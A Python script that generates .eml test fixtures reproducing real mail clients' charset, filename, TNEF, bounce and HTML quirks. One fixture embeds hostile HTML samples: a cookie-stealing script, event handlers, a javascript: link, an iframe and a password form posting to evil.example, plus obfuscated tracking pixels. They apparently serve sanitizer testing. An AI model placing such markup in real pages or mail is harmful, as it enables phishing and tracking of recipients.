"""Writes the .eml fixtures of tests/mail/fixtures/ (run once; the files are committed).

    cd /work/main && .venv/bin/python tests/mail/make_fixtures.py

Each builder below documents how its fixture was made and what real mail it
imitates (Outlook, Foxmail, Gmail, QQ Mail, Postfix...). The messages are built
byte by byte rather than with `email.message`, because most of them are
deliberately wrong in ways the standard library would refuse to produce:
mislabelled charsets, raw 8-bit headers, missing boundaries. Every file is
written with CRLF line endings, as mail arrives from POP3/IMAP.

Binary content is deterministic (no random boundaries, no current dates), so
running the script again reproduces the same files.
"""

import base64
import binascii
import struct
import zlib
from pathlib import Path

FIXTURES = Path(__file__).parent / "fixtures"


# --- helpers -------------------------------------------------------------------

def b64(data: bytes) -> str:
    """Base64 body lines of 76 characters, as MUAs write them."""
    return base64.encodebytes(data).decode("ascii").rstrip("\n")


def qp(data: bytes) -> str:
    """Quoted-printable body (soft breaks at 76 characters)."""
    import quopri

    return quopri.encodestring(data).decode("ascii").rstrip("\n")


def ew(text: str, codec: str, label: str | None = None, encoding: str = "B") -> str:
    """One RFC 2047 encoded word: `text` encoded with `codec`, labelled `label`.

    Encoding with one codec and labelling with another is how mislabelled
    headers are made (GBK bytes labelled gb2312, for instance).
    """
    data = text.encode(codec)
    label = label or codec
    if encoding.upper() == "B":
        return f"=?{label}?B?{base64.b64encode(data).decode('ascii')}?="
    out = []
    for byte in data:
        char = chr(byte)
        if char == " ":
            out.append("_")
        elif char.isascii() and (char.isalnum() or char in "!*+-/"):
            out.append(char)
        else:
            out.append(f"={byte:02X}")
    return f"=?{label}?Q?{''.join(out)}?="


def ew_bytes(data: bytes, label: str) -> str:
    return f"=?{label}?B?{base64.b64encode(data).decode('ascii')}?="


def pct(data: bytes) -> str:
    """RFC 2231 percent-encoding."""
    return "".join(chr(b) if chr(b).isascii() and (chr(b).isalnum() or chr(b) in "-_.") else f"%{b:02X}"
                   for b in data)


def lines(*parts: str | bytes) -> bytes:
    """Join lines (str as UTF-8, bytes as they are) with LF; `write` turns LF into CRLF."""
    return b"\n".join(p if isinstance(p, bytes) else p.encode("utf-8") for p in parts) + b"\n"


def png(width: int = 1, height: int = 1, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    """A real, tiny PNG image."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    row = b"\x00" + bytes(rgb) * width
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(row * height)) + chunk(b"IEND", b""))


PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
       b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
XLSX = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) + b"PK\x05\x06" + b"\x00" * 18


def pdf_of(size: int) -> bytes:
    """A PDF-looking file of exactly `size` bytes, binary after its header (a counter hashed, so reproducible)."""
    import hashlib

    body = b"".join(hashlib.sha256(n.to_bytes(4, "big")).digest() for n in range(size // 32 + 2))
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body)[:size - 6] + b"%%EOF\n"


OUTLOOK_PDF = pdf_of(100_001)
FOXMAIL_XLSX = XLSX * 40 + b"\x00"
GMAIL_PDF = pdf_of(4_097)


def uuencode(data: bytes) -> list[str]:
    out = []
    for start in range(0, len(data), 45):
        out.append(binascii.b2a_uu(data[start:start + 45]).decode("ascii").rstrip("\n"))
    out.append("`")
    return out


def tnef_attribute(level: int, name: int, kind: int, data: bytes) -> bytes:
    """One TNEF attribute: level, id (name | type << 16), length, data, checksum."""
    return (struct.pack("<BHHI", level, name, kind, len(data)) + data
            + struct.pack("<H", sum(data) & 0xFFFF))


def tnef_blob() -> bytes:
    """A real winmail.dat, written by hand to the MS-OXTNEF layout.

    Message level: TNEF version, OEM code page 936 (Simplified Chinese Windows),
    message class and a plain body in that code page. Attachment level: the
    rendering record that opens an attachment, its 8.3 title, its data, and a
    MAPI property block with the Unicode long file name (PidTagAttachLongFilename).
    """
    lvl_message, lvl_attachment = 1, 2
    blob = struct.pack("<IH", 0x223E9F78, 0x0A5B)
    blob += tnef_attribute(lvl_message, 0x9006, 0x0008, struct.pack("<I", 0x00010000))   # attTnefVersion
    blob += tnef_attribute(lvl_message, 0x9007, 0x0006, struct.pack("<II", 936, 0))      # attOemCodepage
    blob += tnef_attribute(lvl_message, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")  # attMessageClass
    body = "您好：\r\n请查收附件中的二〇二四年报价单，如有问题请随时联系。\r\n".encode("cp936")
    blob += tnef_attribute(lvl_message, 0x800C, 0x0002, body)                             # attBody
    blob += tnef_attribute(lvl_attachment, 0x9002, 0x0006,                                # attAttachRendData
                           struct.pack("<HiIHI", 1, -1, 0, 1, 0))
    blob += tnef_attribute(lvl_attachment, 0x8010, 0x0001, b"BAOJIA~1.PDF\x00")          # attAttachTitle
    blob += tnef_attribute(lvl_attachment, 0x800F, 0x0006, PDF)                           # attAttachData
    long_name = "报价单2024.pdf\x00".encode("utf-16-le")
    padded = long_name + b"\x00" * (-len(long_name) % 4)
    mapi = struct.pack("<I", 1)                                       # one property
    mapi += struct.pack("<HH", 0x001F, 0x3707)                        # PT_UNICODE, PidTagAttachLongFilename
    mapi += struct.pack("<II", 1, len(long_name)) + padded            # one value, its length, the value
    blob += tnef_attribute(lvl_attachment, 0x9005, 0x0006, mapi)                          # attAttachment
    return blob


# --- fixtures --------------------------------------------------------------------

def gbk_labelled_gb2312_subject() -> bytes:
    """Foxmail: subject, sender name and body labelled gb2312 but containing GBK-only 镕 and 堃."""
    boundary = "----=_001_NextPart572182624333_=----"
    text = "张经理：\n\n您好！附件是朱镕基路项目LED灯带的报价，请查收。\n\n王堃\n杭州华灯照明有限公司\n".encode("gbk")
    html = ("<html><body><p>张经理：</p><p>您好！附件是朱镕基路项目LED灯带的报价，请查收。</p>"
            "<p>王堃<br>杭州华灯照明有限公司</p></body></html>").encode("gbk")
    return lines(
        "Received: from hzled.com.cn (unknown [115.236.10.21])",
        "\tby smtp.tradeport.example (Postfix) with ESMTP id 4TqA1B2C3D",
        "\tfor <sales@tradeport.example>; Tue, 05 Mar 2024 14:22:12 +0800 (CST)",
        "Date: Tue, 5 Mar 2024 14:22:10 +0800",
        f'From: "{ew("王堃", "gbk", "gb2312")}" <wangkun@hzled.com.cn>',
        'To: "sales" <sales@tradeport.example>',
        f"Subject: {ew('关于朱镕基路项目LED灯带的报价', 'gbk', 'gb2312')}",
        "X-Priority: 3",
        "X-Has-Attach: no",
        "X-Mailer: Foxmail 7.2.25.228[cn]",
        "Mime-Version: 1.0",
        "Message-ID: <202403051422101234567@hzled.com.cn>",
        "Content-Type: multipart/alternative;",
        f'\tboundary="{boundary}"',
        "",
        "This is a multi-part message in MIME format.",
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="gb2312"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(text),
        "",
        f"--{boundary}",
        'Content-Type: text/html; charset="gb2312"',
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp(html),
        "",
        f"--{boundary}--",
    )


def big5_hkscs_body() -> bytes:
    """Outlook (Hong Kong): body and subject labelled big5 with HKSCS-only Cantonese characters."""
    body = ("陳生：\n\n你好，呢份係我哋嘅報價單，唔該你睇下啲價錢啱唔啱。\n"
            "冇問題就回覆我㗎，我今日喺公司。\n\n黃小姐\n").encode("big5hkscs")
    return lines(
        'From: "Wong, Mandy" <mandy.wong@hk-trading.com.hk>',
        "To: <sales@tradeport.example>",
        f"Subject: {ew('呢份係我哋嘅報價單', 'big5hkscs', 'big5')}",
        "Date: Wed, 6 Mar 2024 10:05:33 +0800",
        "Message-ID: <0A1B2C3D4E5F@HKMAIL01.hk-trading.local>",
        "Accept-Language: zh-HK, en-US",
        "Content-Language: zh-HK",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="big5"',
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp(body),
    )


def undeclared_charset_gbk_body() -> bytes:
    """An old Chinese client: 8-bit GBK body, Content-Type without a charset parameter."""
    body = ("尊敬的客户：\n\n"
            "感谢您对我公司产品的关注。我们是一家专业生产LED照明产品的企业，"
            "主要产品包括LED灯带、LED面板灯、LED筒灯和LED投光灯等。"
            "所有产品均通过CE和RoHS认证，质量稳定，价格优惠。\n"
            "如果您有任何需要，请随时与我们联系，我们将竭诚为您服务。\n\n"
            "此致\n敬礼\n\n深圳市光明照明科技有限公司\n").encode("gbk")
    return lines(
        "From: info@szgm-lighting.cn",
        "To: sales@tradeport.example",
        "Subject: LED lighting products introduction",
        "Date: Thu, 07 Mar 2024 09:12:45 +0800",
        "Message-ID: <20240307091245.7731@szgm-lighting.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain",
        "Content-Transfer-Encoding: 8bit",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
        "",
        body,
    )


def utf8_labelled_iso8859() -> bytes:
    """A German web shop: UTF-8 bytes in subject and body, both labelled ISO-8859-1."""
    subject = "Angebot für Müller GmbH – 报价"
    body = "Sehr geehrte Frau Müller,\n\nanbei unser Angebot über 5.000 Stück.\n您好，附件是报价。\n".encode()
    return lines(
        "From: =?ISO-8859-1?Q?J=FCrgen_Wei=DF?= <juergen.weiss@shop.example.de>",
        "To: sales@tradeport.example",
        "Subject: " + ew(subject, "utf-8", "ISO-8859-1", "Q"),
        "Date: Fri, 08 Mar 2024 16:40:00 +0100",
        "Message-ID: <5f1e2d3c.4b5a@shop.example.de>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=ISO-8859-1; format=flowed",
        "Content-Transfer-Encoding: 8bit",
        "",
        body,
    )


def raw_8bit_utf8_headers() -> bytes:
    """A misconfigured web mailer: raw UTF-8 in Subject, From and To, no encoded words."""
    return lines(
        "From: 张伟 <zhangwei@example-buyer.cn>",
        "To: 外贸部 <sales@tradeport.example>",
        "Subject: 报价单 – 2024年新款太阳能灯",
        "Date: Sat, 09 Mar 2024 11:00:00 +0800",
        "Message-ID: <raw8bit-utf8-0309@example-buyer.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        "",
        "请报最新价格，谢谢。",
    )


def raw_8bit_gbk_headers() -> bytes:
    """An old Chinese mail server: raw GBK in Subject and From; the body says charset=gbk."""
    return lines(
        b"From: " + "李娜".encode("gbk") + b" <lina@gz-fair.cn>",
        b"To: sales@tradeport.example",
        b"Subject: " + "关于春季广交会样品的报价确认".encode("gbk"),
        "Date: Sun, 10 Mar 2024 08:30:00 +0800",
        "Message-ID: <raw8bit-gbk-0310@gz-fair.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=gbk",
        "Content-Transfer-Encoding: 8bit",
        "",
        "样品已经寄出，请注意查收。".encode("gbk"),
    )


def rfc2231_filename_chinese() -> bytes:
    """Thunderbird: RFC 2231 file names, one UTF-8 in one piece, one GBK in continuations."""
    boundary = "------------9DgJ0vd4yHnI5y6aQ2Bbt3ZK"
    first = "2024年春季产品报价单.pdf".encode()
    second = pct("深圳市华强电子有限公司产品目录.xlsx".encode("gbk"))
    return lines(
        "Message-ID: <8c1f0e5a-77d2-4a4e-9f40-3b2a1c0d9e8f@example-buyer.cn>",
        "Date: Mon, 11 Mar 2024 15:31:07 +0800",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: zh-CN",
        "To: sales@tradeport.example",
        "From: Chen Jie <chenjie@example-buyer.cn>",
        "Subject: Price list and catalogue",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        "This is a multi-part message in MIME format.",
        f"--{boundary}",
        "Content-Type: text/plain; charset=UTF-8; format=flowed",
        "Content-Transfer-Encoding: 8bit",
        "",
        "附件是报价单和产品目录。",
        "",
        f"--{boundary}",
        f"Content-Type: application/pdf; name*=UTF-8''{pct(first)}",
        f"Content-Disposition: attachment; filename*=UTF-8''{pct(first)}",
        "Content-Transfer-Encoding: base64",
        "",
        b64(PDF),
        "",
        f"--{boundary}",
        "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;",
        f" name*0*=gbk''{second[:60]};",
        f" name*1*={second[60:]}",
        "Content-Disposition: attachment;",
        f" filename*0*=gbk''{second[:60]};",
        f" filename*1*={second[60:]}",
        "Content-Transfer-Encoding: base64",
        "",
        b64(XLSX),
        "",
        f"--{boundary}--",
    )


def rfc2047_in_filename_param() -> bytes:
    """Outlook / QQ Mail: RFC 2047 encoded words inside quoted name= and filename= parameters."""
    boundary = "----=_NextPart_000_0012_01DA6F3A.5B8C7D20"
    long_name = "福建省厦门市进出口贸易有限公司2024年第一季度订单明细.xls".encode()
    cut = 31  # inside a three-byte character: split encoded words, as some senders do
    return lines(
        'From: "Lin Tao" <lintao@xm-trade.cn>',
        "To: <sales@tradeport.example>",
        "Subject: Order details",
        "Date: Tue, 12 Mar 2024 09:00:00 +0800",
        "Message-ID: <000001da6f3a$5b8c7d20$12a5776a$@xm-trade.cn>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="gb2312"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("请查收订单。".encode("gbk")),
        "",
        f"--{boundary}",
        f'Content-Type: application/vnd.ms-excel; name="{ew("订单确认书.xls", "gbk", "gb2312")}"',
        f'Content-Disposition: attachment; filename="{ew("订单确认书.xls", "gbk", "gb2312")}"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 120),
        "",
        f"--{boundary}",
        "Content-Type: application/vnd.ms-excel;",
        f'\tname="{ew_bytes(long_name[:cut], "UTF-8")}',
        f'\t{ew_bytes(long_name[cut:], "UTF-8")}"',
        "Content-Disposition: attachment;",
        f'\tfilename="{ew_bytes(long_name[:cut], "UTF-8")}',
        f'\t{ew_bytes(long_name[cut:], "UTF-8")}"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 120),
        "",
        f"--{boundary}--",
    )


def raw_gbk_filename() -> bytes:
    """Foxmail 6 era: the attachment name is raw GBK bytes inside the quotes."""
    boundary = "=====003_Dragon357458115186_====="
    name = "样品确认单.doc".encode("gbk")
    return lines(
        'From: "zhao" <zhao@nb-export.cn>',
        "To: sales@tradeport.example",
        "Subject: =?gb2312?B?" + base64.b64encode("样品确认".encode("gbk")).decode() + "?=",
        "Date: Wed, 13 Mar 2024 10:10:10 +0800",
        "Message-ID: <20240313101010.3574@nb-export.cn>",
        "X-mailer: Foxmail 6, 15, 201, 26 [cn]",
        "Mime-Version: 1.0",
        "Content-Type: multipart/mixed;",
        f'\tboundary="{boundary}"',
        "",
        "This is a multi-part message in MIME format.",
        "",
        f"--{boundary}",
        "Content-Type: text/plain;",
        '\tcharset="gb2312"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("附件是样品确认单，请签字后回传。".encode("gbk")),
        "",
        f"--{boundary}",
        b'Content-Type: application/msword;\n\tname="' + name + b'"',
        "Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment;\n\tfilename="' + name + b'"',
        "",
        b64(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x02" * 200),
        "",
        f"--{boundary}--",
    )


def utf7_body() -> bytes:
    """Exchange with a UTF-7 body and a UTF-7 encoded-word subject."""
    return lines(
        "From: Peter Schmidt <p.schmidt@example-import.de>",
        "To: sales@tradeport.example",
        "Subject: " + ew("Muster für 北京", "utf-7", "utf-7", "Q"),
        "Date: Thu, 14 Mar 2024 13:45:00 +0100",
        "Message-ID: <utf7.20240314@example-import.de>",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="utf-7"',
        "Content-Transfer-Encoding: 7bit",
        "",
        "Guten Tag, bitte senden Sie uns die Muster. 您好，请寄样品。".encode("utf-7").decode("ascii"),
    )


UU_TEXT = b"Item,Price\r\nLED strip 5050,1.20\r\nLED panel 600x600,9.80\r\n"
UU_PHOTO = png(2, 2)


def uuencoded_attachment() -> bytes:
    """Pine / old Outlook Express: no MIME, two uuencoded files inside the plain text (GBK name)."""
    return lines(
        "From: Old Client User <olduser@example-import.com>",
        "To: sales@tradeport.example",
        "Subject: Price list (uuencoded)",
        "Date: Fri, 15 Mar 2024 07:20:00 -0500",
        "Message-ID: <uu.20240315@example-import.com>",
        "Content-Type: text/plain; charset=gbk",
        "",
        "Hi,",
        "",
        "Please find our price list attached.",
        "",
        "begin 644 price_list.csv",
        *uuencode(UU_TEXT),
        "end",
        "",
        b"begin 644 " + "样品照片.png".encode("gbk"),
        *uuencode(UU_PHOTO),
        "end",
        "",
        "Best regards,",
        "Old Client User",
    )


def winmail_dat() -> bytes:
    """Outlook with rich text to a non-Outlook recipient: a real TNEF winmail.dat (built in tnef_blob)."""
    boundary = "_000_TY2PR01MB1234ABCDEF_"
    return lines(
        "From: Sato Kenji <k.sato@example-jp.co.jp>",
        "To: sales@tradeport.example",
        "Subject: Quotation",
        "Date: Sat, 16 Mar 2024 10:00:00 +0900",
        "Message-ID: <TY2PR01MB1234ABCDEF@TY2PR01MB1234.jpnprd01.prod.outlook.com>",
        "Content-Language: zh-CN",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator: <TY2PR01MB1234ABCDEF@TY2PR01MB1234.jpnprd01.prod.outlook.com>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="us-ascii"',
        "Content-Transfer-Encoding: 7bit",
        "",
        "Please see the attached quotation.",
        "",
        f"--{boundary}",
        'Content-Type: application/ms-tnef; name="winmail.dat"',
        'Content-Disposition: attachment; filename="winmail.dat"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(tnef_blob()),
        "",
        f"--{boundary}--",
    )


def winmail_dat_unreadable() -> bytes:
    """A winmail.dat that is not TNEF at all (truncated by a gateway)."""
    boundary = "_000_BROKENTNEF_"
    return lines(
        "From: Sato Kenji <k.sato@example-jp.co.jp>",
        "To: sales@tradeport.example",
        "Subject: Quotation (broken winmail)",
        "Date: Sat, 16 Mar 2024 10:05:00 +0900",
        "Message-ID: <BROKENTNEF@example-jp.co.jp>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="us-ascii"',
        "",
        "See attachment.",
        "",
        f"--{boundary}",
        'Content-Type: application/ms-tnef; name="winmail.dat"',
        'Content-Disposition: attachment; filename="winmail.dat"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"\x00\x11\x22\x33not a tnef stream at all" * 3),
        "",
        f"--{boundary}--",
    )


ORIGINAL_QUOTE = [
    "Return-Path: <sales@tradeport.example>",
    "Received: by mail.tradeport.example (Postfix, from userid 1001)",
    "\tid 4TqZ0B1C2Dz9rxM; Tue,  5 Mar 2024 07:01:00 +0000 (UTC)",
    "From: Tradeport Sales <sales@tradeport.example>",
    "To: buyer@example-importer.com",
    "Subject: Quotation 2024-0305",
    "Date: Tue, 05 Mar 2024 15:00:59 +0800",
    "Message-ID: <quote-2024-0305@tradeport.example>",
    "MIME-Version: 1.0",
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: 8bit",
    "",
    "Dear buyer, please find our quotation below.",
]


def dsn_bounce() -> bytes:
    """Postfix bounce: multipart/report delivery-status with the whole original message attached."""
    boundary = "4TqZ0B1C2Dz9rxM.1709622062/mail.tradeport.example"
    return lines(
        "Return-Path: <>",
        "Received: by mail.tradeport.example (Postfix)",
        "\tid 5AbC1D2E3Fz9rxN; Tue,  5 Mar 2024 07:01:02 +0000 (UTC)",
        "Date: Tue,  5 Mar 2024 07:01:02 +0000 (UTC)",
        "From: MAILER-DAEMON@mail.tradeport.example (Mail Delivery System)",
        "Subject: Undelivered Mail Returned to Sender",
        "To: sales@tradeport.example",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status;",
        f'\tboundary="{boundary}"',
        "Content-Transfer-Encoding: 8bit",
        "Message-Id: <20240305070102.5AbC1D2E3Fz9rxN@mail.tradeport.example>",
        "",
        "This is a MIME-encapsulated message.",
        "",
        f"--{boundary}",
        "Content-Description: Notification",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        "",
        "This is the mail system at host mail.tradeport.example.",
        "",
        "I'm sorry to have to inform you that your message could not",
        "be delivered to one or more recipients. It's attached below.",
        "",
        "<buyer@example-importer.com>: host mx.example-importer.com[203.0.113.25] said:",
        "    550 5.1.1 <buyer@example-importer.com>: Recipient address rejected: User",
        "    unknown in virtual mailbox table (in reply to RCPT TO command)",
        "",
        f"--{boundary}",
        "Content-Description: Delivery report",
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mail.tradeport.example",
        "X-Postfix-Queue-ID: 4TqZ0B1C2Dz9rxM",
        "X-Postfix-Sender: rfc822; sales@tradeport.example",
        "Arrival-Date: Tue,  5 Mar 2024 07:01:00 +0000 (UTC)",
        "",
        "Final-Recipient: rfc822; Buyer@Example-Importer.com",
        "Original-Recipient: rfc822;buyer@example-importer.com",
        "Action: failed",
        "Status: 5.1.1",
        "Remote-MTA: dns; mx.example-importer.com",
        "Diagnostic-Code: smtp; 550 5.1.1 <buyer@example-importer.com>: Recipient",
        "    address rejected: User unknown in virtual mailbox table",
        "",
        f"--{boundary}",
        "Content-Description: Undelivered Message",
        "Content-Type: message/rfc822",
        "Content-Transfer-Encoding: 8bit",
        "",
        *ORIGINAL_QUOTE,
        "",
        f"--{boundary}--",
    )


def dsn_delayed_headers_only() -> bytes:
    """Postfix delay warning: delivery-status, and only the original headers (text/rfc822-headers)."""
    boundary = "7XyZ9A8B7Cz1abc.1709708462/mail.tradeport.example"
    return lines(
        "Date: Wed,  6 Mar 2024 07:01:02 +0000 (UTC)",
        "From: MAILER-DAEMON@mail.tradeport.example (Mail Delivery System)",
        "Subject: Delayed Mail (still being retried)",
        "To: sales@tradeport.example",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status;",
        f'\tboundary="{boundary}"',
        "Message-Id: <20240306070102.7XyZ9A8B7Cz1abc@mail.tradeport.example>",
        "",
        f"--{boundary}",
        "Content-Description: Notification",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "This is the mail system at host mail.tradeport.example.",
        "",
        "####################################################################",
        "# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #",
        "####################################################################",
        "",
        f"--{boundary}",
        "Content-Description: Delivery report",
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mail.tradeport.example",
        "Arrival-Date: Tue,  5 Mar 2024 07:01:00 +0000 (UTC)",
        "",
        "Final-Recipient: rfc822; orders@slow-importer.example",
        "Action: delayed",
        "Status: 4.4.1",
        "Diagnostic-Code: X-Postfix; connect to mx.slow-importer.example[198.51.100.7]:25:",
        "    Connection timed out",
        "Will-Retry-Until: Sat,  9 Mar 2024 07:01:00 +0000 (UTC)",
        "",
        f"--{boundary}",
        "Content-Description: Undelivered Message Headers",
        "Content-Type: text/rfc822-headers",
        "",
        "From: Tradeport Sales <sales@tradeport.example>",
        "To: orders@slow-importer.example",
        "Subject: Proforma invoice PI-0305",
        "Date: Tue, 05 Mar 2024 15:00:59 +0800",
        "Message-ID: <pi-0305@tradeport.example>",
        "",
        f"--{boundary}--",
    )


def mdn_read_receipt() -> bytes:
    """Outlook read receipt (RFC 8098): disposition-notification report with a Chinese subject."""
    boundary = "----=_NextPart_MDN_0001"
    return lines(
        "From: Buyer <buyer@example-importer.com>",
        "To: sales@tradeport.example",
        f"Subject: {ew('已读: Quotation 2024-0305', 'utf-8')}",
        "Date: Tue, 05 Mar 2024 16:12:00 +0800",
        "Message-ID: <mdn-20240305-1612@example-importer.com>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=disposition-notification;",
        f'\tboundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="utf-8"',
        "Content-Transfer-Encoding: 8bit",
        "",
        "您的邮件",
        "  收件人: buyer@example-importer.com",
        "  主题: Quotation 2024-0305",
        "已于 2024/3/5 16:12 被阅读。",
        "",
        f"--{boundary}",
        "Content-Type: message/disposition-notification",
        "",
        "Reporting-UA: BUYER-PC; Microsoft Outlook 16.0",
        "Final-Recipient: rfc822;buyer@example-importer.com",
        "Original-Message-ID: <quote-2024-0305@tradeport.example>",
        "Disposition: manual-action/MDN-sent-manually; displayed",
        "",
        f"--{boundary}--",
    )


def forwarded_message_rfc822() -> bytes:
    """Outlook "forward as attachment": message/rfc822 whose message has its own attachment."""
    outer, inner = "----=_NextPart_000_0050_01DA7000.AAAA0000", "----=_NextPart_001_0051_01DA7000.BBBB0000"
    return lines(
        'From: "Zhou Min" <zhoumin@tradeport.example>',
        'To: "Manager" <manager@tradeport.example>',
        f"Subject: {ew('转发: 询价：LED灯带 5050 RGB', 'utf-8')}",
        "Date: Sun, 17 Mar 2024 09:30:00 +0800",
        "Message-ID: <fwd-20240317-0930@tradeport.example>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{outer}"',
        "",
        f"--{outer}",
        'Content-Type: text/plain; charset="utf-8"',
        "Content-Transfer-Encoding: 8bit",
        "",
        "经理，请看客户的询价，附件是原邮件。",
        "",
        f"--{outer}",
        "Content-Type: message/rfc822",
        "Content-Disposition: attachment",
        "",
        'From: "Ahmed Khan" <ahmed@example-dubai.ae>',
        "To: sales@tradeport.example",
        f"Subject: {ew('询价：LED灯带 5050 RGB', 'utf-8')}",
        "Date: Sat, 16 Mar 2024 18:00:00 +0400",
        "Message-ID: <inquiry-778@example-dubai.ae>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{inner}"',
        "",
        f"--{inner}",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Please quote 10,000 m of 5050 RGB strip.",
        "",
        f"--{inner}",
        f'Content-Type: application/vnd.ms-excel; name="{ew("询价单.xlsx", "utf-8")}"',
        f'Content-Disposition: attachment; filename="{ew("询价单.xlsx", "utf-8")}"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(XLSX),
        "",
        f"--{inner}--",
        "",
        f"--{outer}--",
    )


REMOTE_HTML = """<html><head>
<script type="text/javascript">alert('stolen cookie')</script>
<style>body { background: url(http://t.example/bg.png) }</style>
</head>
<body onload="track()">
<p onclick="steal()" style="color:red">Dear buyer,</p>
<img src="http://track.example.com/open.gif?id=123" width="1" height="1">
<img alt="logo" src='https://static.example.com/logo.png'>
<img src=//static.example.com/banner.jpg>
<IMG SRC = "HTTPS://STATIC.EXAMPLE.COM/UPPER.PNG">
<div style="background-image: url('https://t.example/x.png')">Special offer this week</div>
<a href="javascript:alert(1)">click here</a>
<a href="https://example.com/catalog" onmouseover="x()">catalogue</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"></form>
<svg onload="alert(2)"></svg>
</body></html>
"""


def html_with_remote_images_and_script() -> bytes:
    """Marketing mail (Gmail-style alternative): scripts, event handlers, CSS urls, remote images."""
    boundary = "000000000000a1b2c3d4e5f60718"
    return lines(
        "From: Promo <promo@newsletter.example>",
        "To: sales@tradeport.example",
        "Subject: Special offer",
        "Date: Mon, 18 Mar 2024 02:00:00 +0000",
        "Message-ID: <CAF=promo123@mail.gmail.com>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="UTF-8"',
        "",
        "Dear buyer, special offer this week.",
        "",
        f"--{boundary}",
        'Content-Type: text/html; charset="UTF-8"',
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp(REMOTE_HTML.encode()),
        "",
        f"--{boundary}--",
    )


def html_entity_encoded_remote_image() -> bytes:
    """Tracking pixels written with entities/odd quoting, which a naive regex does not see."""
    html = ('<html><body><p>Hello</p>'
            '<img src="&#104;ttp://track.example.com/entity.gif">'
            '<img src="&#x68;ttps://track.example.com/hex.gif">'
            '<img src=" http://track.example.com/space.gif">'
            '<img title="a>b" src="http://track.example.com/gt-in-attr.gif">'
            '</body></html>')
    return lines(
        "From: Tracker <news@tracker.example>",
        "To: sales@tradeport.example",
        "Subject: Newsletter",
        "Date: Mon, 18 Mar 2024 03:00:00 +0000",
        "Message-ID: <entity-pixels@tracker.example>",
        "MIME-Version: 1.0",
        'Content-Type: text/html; charset="UTF-8"',
        "",
        html,
    )


LOGO = png(3, 2, (0, 120, 200))
SIGNATURE = png(2, 1, (10, 10, 10))


def cid_inline_image() -> bytes:
    """Foxmail signature plus an Outlook-style inline image: multipart/related with cid: references."""
    outer = "----=_001_NextPart618203776542_=----"
    related = "----=_002_NextPart618203776542_=----"
    html = ('<html><body><p>您好，这是我们的新产品：</p>'
            '<img src="cid:image001.png@01DA7A1B.2C3D4E50" width="3" height="2">'
            '<p>--<br><img src="cid:_Foxmail.1@8a2c1f3e-5b7d-4c1e-9f00-aa11bb22cc33"></p>'
            "</body></html>")
